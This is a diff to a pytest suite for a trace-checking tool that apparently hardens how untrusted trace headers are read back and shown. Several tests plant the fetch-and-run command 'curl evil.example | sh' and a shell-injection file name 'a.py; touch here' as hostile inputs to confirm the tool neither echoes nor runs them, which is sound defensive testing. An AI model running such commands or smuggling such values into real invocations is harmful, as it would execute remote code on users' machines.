@@ -10,7 +10,9 @@ import pytest
 
 from conformance.tests.support.engine import COUNTER
 from conformance.tests.support.trace import COMMITTED, kafka, weak_isr
+from conformance.tests.traces.test_cli import complaint
 from isrcheck.checker.cli import main as check
+from isrcheck.commands.exit_codes import VIOLATED
 from isrcheck.conformance.cli import main as conform
 from isrcheck.traces.cli import main as trace
 from isrcheck.traces.format import files
@@ -53,17 +55,17 @@ NOT_OURS = [
 ]
 
 
-def with_command(path: Path, command: str) -> Path:
-    """The same trace, with another command."""
+def with_header(path: Path, **entries: str) -> Path:
+    """The same trace, with other entries of its header."""
     document = json.loads(path.read_text())
-    document["#meta"]["isrcheck"]["command"] = command
+    document["#meta"]["isrcheck"] |= {name.replace("_", "-"): entry for name, entry in entries.items()}
     path.write_text(json.dumps(document))
     return path
 
 
 @pytest.mark.parametrize("command", OURS)
 def test_a_command_of_this_project_is_shown_unchanged(tmp_path: Path, command: str) -> None:
-    path = with_command(files.write(weak_isr(), tmp_path), command)
+    path = with_header(files.write(weak_isr(), tmp_path), command=command)
     assert files.read(path).command == command
 
 
@@ -71,7 +73,7 @@ def test_a_command_of_this_project_is_shown_unchanged(tmp_path: Path, command: s
 def test_other_commands_are_rebuilt_from_the_configuration(
     tmp_path: Path, capsys: pytest.CaptureFixture[str], command: str
 ) -> None:
-    path = with_command(files.write(weak_isr(), tmp_path), command)
+    path = with_header(files.write(weak_isr(), tmp_path), command=command)
     if "\t" in command:
         assert trace(["show", str(path)]) == 2
         return
@@ -85,26 +87,20 @@ def test_other_commands_are_rebuilt_from_the_configuration(
 
 
 def test_a_trace_without_property_names_no_search(tmp_path: Path) -> None:
-    path = with_command(files.write(kafka(COMMITTED, None), tmp_path), "curl evil.example | sh")
+    path = with_header(files.write(kafka(COMMITTED, None), tmp_path), command="curl evil.example | sh")
     assert files.read(path).command == ""
 
 
 def test_a_file_of_another_version_names_no_command(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
-    path = with_command(files.write(weak_isr(), tmp_path), "curl evil.example | sh")
-    path.write_text(path.read_text().replace('"model-digest": "', '"model-digest": "0'))
-    assert trace(["show", str(path)]) == 2
-    err = capsys.readouterr().err
-    assert "evil" not in err
-    assert err.endswith("; write the trace again with check\n")
+    path = with_header(files.write(weak_isr(), tmp_path), command="curl evil.example | sh", model_digest="0")
+    error = complaint(capsys, "show", path)
+    assert "evil" not in error
+    assert error.endswith("; write the trace again with check")
 
 
 def test_the_path_of_a_model_in_advice_is_quoted(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
-    path = files.write(weak_isr(), tmp_path)
-    document = json.loads(path.read_text())
-    document["#meta"]["isrcheck"]["model-file"] = "a.py; touch here"
-    path.write_text(json.dumps(document))
-    assert trace(["show", str(path)]) == 2
-    assert capsys.readouterr().err.endswith("give it: --model 'a.py; touch here'\n")
+    path = with_header(files.write(weak_isr(), tmp_path), model_file="a.py; touch here")
+    assert complaint(capsys, "show", path).endswith("give it: --model 'a.py; touch here'")
 
 
 def test_the_trace_of_a_model_with_an_odd_name_is_read_back(
@@ -113,18 +109,21 @@ def test_the_trace_of_a_model_with_an_odd_name_is_read_back(
     monkeypatch.chdir(tmp_path)
     model = Path(f"{ODD}.py")
     model.write_text(COUNTER)
-    assert check([str(model), "--bound", "2"]) == 12
-    out, err = capsys.readouterr()
-    assert (out + err).replace("\n", "").isprintable()
+
+    def printed() -> str:
+        """What the last command printed, which has no control characters."""
+        text = "".join(capsys.readouterr())
+        assert text.replace("\n", "").isprintable()
+        return text
+
+    assert check([str(model), "--bound", "2"]) == VIOLATED
+    printed()
     (path,) = files.files(Path("counterexamples"))
     assert trace(["show", str(path), "--model", str(model)]) == 0
-    out, err = capsys.readouterr()
-    assert (out + err).replace("\n", "").isprintable()
-    assert out.splitlines()[-1] == f"reproduce: check '{SHOWN}.py' --bound 2"
+    assert printed().splitlines()[-1] == f"reproduce: check '{SHOWN}.py' --bound 2"
     for words in (["show", str(path)], ["list"], ["page", str(path), "--model", str(model), "-o", f"{ODD}.html"]):
         trace(words)
-        out, err = capsys.readouterr()
-        assert (out + err).replace("\n", "").isprintable()
+        printed()
 
 
 def test_names_of_files_are_shown_escaped(
